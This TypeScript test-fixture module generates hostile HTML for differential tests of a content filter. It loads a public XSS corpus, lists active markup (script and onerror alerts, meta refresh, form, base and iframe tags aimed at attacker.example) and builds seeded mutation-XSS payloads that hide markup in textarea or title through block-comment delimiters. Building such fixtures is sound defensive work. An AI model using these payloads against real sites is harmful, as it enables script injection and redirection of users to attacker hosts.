// Hostile documents for the filter's differential tests: the public XSS corpus
// (tests/fixtures/xss-vectors.txt), the reported block-delimiter payload around each kind of
// active markup, and documents made by a small grammar mixing block delimiters (void and
// paired, balanced or not, attribute JSON holding `-->`, `<!--` and quotes), elements whose
// content is text, comments, CDATA and corpus vectors. A seeded generator makes the same
// documents on every run.
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { seededRandom } from './seeded-random.ts';

// Read by path: in a jsdom test the global URL is jsdom's, which fs does not take.
export const XSS_VECTORS = fs.readFileSync(path.join(path.dirname(fileURLToPath(import.meta.url)), '..', 'fixtures', 'xss-vectors.txt'), 'utf8')
  .split('\n').filter((line) => line.trim() !== '' && !line.startsWith('#')).map((line) => line.replaceAll('\\n', '\n'));

/** Markup that runs, loads, submits or sends the reader elsewhere if it reaches a page live. */
export const ACTIVE_MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<form action="https://attacker.example/"><button>Go</button></form>',
  '<base href="https://attacker.example/">',
  '<a href="javascript:alert(1)">link</a>',
  '<svg onload=alert(1)>',
  '<iframe src="https://attacker.example/"></iframe>',
  '<object data="https://attacker.example/x.swf"></object>',
  '<embed src="https://attacker.example/x.swf">',
  '<input autofocus onfocus=alert(1)>',
  '<style>@import "https://attacker.example/x.css";</style>',
];

/** Elements whose content the HTML parser reads as text (or not as ordinary markup). */
export const RAW_TEXT_ELEMENTS = ['textarea', 'title', 'style', 'noscript', 'xmp', 'plaintext', 'template', 'script', 'iframe', 'noembed', 'noframes'];

/** The reported payload: a delimiter whose attributes open a raw-text element, markup, then its end tag. */
export function delimiterPayloads(): string[] {
  return RAW_TEXT_ELEMENTS.flatMap((element) => ACTIVE_MARKUP.map((markup) => `<!-- wp:x {"a":"--><${element}>"} /-->${markup}</${element}>`));
}

type Random = () => number;
const pick = <T>(random: Random, items: readonly T[]): T => items[Math.floor(random() * items.length)]!;

const BLOCK_NAMES = ['paragraph', 'x', 'core/group', 'my-plugin/box', 'html', 'a--b'];
/** Strings that end a comment, open one, or change how the text after them is read. */
const TRICKY_STRINGS = [
  '-->', '<!--', '--!>', '--', '"', '\\"', "'", '>', '<', '} /-->', '} -->', ']]>', '&quot;', '\\u002d\\u002d>',
  '--><textarea>', '--><title>', '<textarea>', '</textarea>', '<title>', '<style>', '<xmp>', '<plaintext>', '<noscript>', '<template>', '<![CDATA[',
];

function attributeJson(random: Random): string {
  const text = () => Array.from({ length: 1 + Math.floor(random() * 3) }, () => pick(random, [...TRICKY_STRINGS, ...ACTIVE_MARKUP])).join('');
  switch (Math.floor(random() * 6)) {
    case 0: return '';
    case 1: return JSON.stringify({ a: text(), n: 1 });
    case 2: return `{"a":"${text()}"}`; // as written by hand: nothing escaped
    case 3: return `{"${text()}":[${JSON.stringify(text())},{"b":"${text()}"}]}`;
    case 4: return `{"a":"${text()}"`; // not JSON
    default: return `{"style":{"color":{"text":"var(--x)"}},"content":${JSON.stringify(text())}}`;
  }
}

function delimiter(random: Random): string {
  const name = pick(random, BLOCK_NAMES);
  const attrs = attributeJson(random);
  const gap = pick(random, [' ', ' ', '\n', '  ']);
  const withAttrs = attrs === '' ? '' : `${attrs}${gap}`;
  switch (Math.floor(random() * 3)) {
    case 0: return `<!--${gap}wp:${name}${gap}${withAttrs}/-->`;
    case 1: return `<!--${gap}wp:${name}${gap}${withAttrs}-->`;
    default: return `<!--${gap}/wp:${name}${gap}-->`;
  }
}

const FRAGMENTS = [
  '"', "'", '>', '<', '<p title="', '">', ' x="', '\n\n', '\n', '<p>', '</p>', '<b>', '</b>', 'words ', '&amp;', '&lt;', '&',
  '[caption]', '[/caption]', '[embed]https://attacker.example/[/embed]', '\nhttps://www.youtube.com/watch?v=x\n',
  '<!--', '-->', '<!-- c -->', '--!>', '<!-->', '<!', '<?x ', '</ x>', '<![CDATA[', ']]>', '<!DOCTYPE html>', '<pre>', '</pre>',
];

/** What a rendering step takes out (a delimiter, a tag, a shortcode, a comment) or puts in (a paragraph). */
const TAKEN_OUT = ['<!-- wp:x /-->', '<b></b>', '<!-- wp:x {"a":"-->"} /-->', '<b>', '</b>', '[caption]', '[/x]', '<!-- c -->', '\n\n', '<br>'];

/** Active markup with something a later step may take out put inside its start tag: `<` `<b>` `script>`. */
function splitTag(random: Random): string {
  const markup = pick(random, ACTIVE_MARKUP);
  const at = 1 + Math.floor(random() * 3);
  return `${markup.slice(0, at)}${pick(random, TAKEN_OUT)}${markup.slice(at)}`;
}

function part(random: Random): string {
  switch (Math.floor(random() * 7)) {
    case 6: return splitTag(random);
    case 0:
    case 1: return delimiter(random);
    case 2: {
      const element = pick(random, RAW_TEXT_ELEMENTS);
      return pick(random, [`<${element}>`, `</${element}>`, `</${element}`, `<${element} title="`]);
    }
    case 3: return pick(random, ACTIVE_MARKUP);
    case 4: return pick(random, XSS_VECTORS);
    default: return pick(random, FRAGMENTS);
  }
}

const CLEAN = ['<p>Words.</p>', 'words ', '\n\n', '<b>bold</b>', '<!-- c -->', '<a href="https://example.com/">a link</a>', '<p title="t">'];

/** A delimiter whose attributes, read as HTML, end its comment and open `element`. */
function openingDelimiter(random: Random, element: string): string {
  const gap = pick(random, [' ', '\n', '  ']);
  const name = pick(random, BLOCK_NAMES);
  const before = pick(random, ['', 'x', '"', '<!--']);
  const start = pick(random, [`<${element}>`, `<${element} title=\\"t\\">`, `<${element}\n>`]);
  const after = pick(random, ['', 'x', '-->']);
  return `<!--${gap}wp:${name}${gap}{"a":"${before}-->${start}${after}"}${gap}${pick(random, ['/', ''])}-->`;
}

/**
 * A part of a document that is clean to a filter reading it as HTML, except where text the
 * HTML parser reads as the content of a `<textarea>` or `<title>` becomes markup once a step
 * takes a delimiter (or anything else) out.
 */
function hiddenPart(random: Random): string {
  const element = pick(random, ['textarea', 'title']);
  switch (Math.floor(random() * 4)) {
    case 0: return delimiter(random);
    case 1: return pick(random, CLEAN);
    case 2: return `<${element}>${pick(random, ACTIVE_MARKUP)}</${element}>`;
    default: return `${openingDelimiter(random, element)}${pick(random, [...ACTIVE_MARKUP, ...CLEAN])}${pick(random, ACTIVE_MARKUP)}</${element}>`;
  }
}

/** `count` documents of 2 to 12 parts from the grammar (half of them clean but for what is hidden), the same ones for the same seed. */
export function hostileDocuments(seed: number, count: number): string[] {
  const random = seededRandom(seed);
  return Array.from({ length: count }, () => {
    const next = random() < 0.5 ? part : hiddenPart;
    return Array.from({ length: 2 + Math.floor(random() * 11) }, () => next(random)).join('');
  });
}
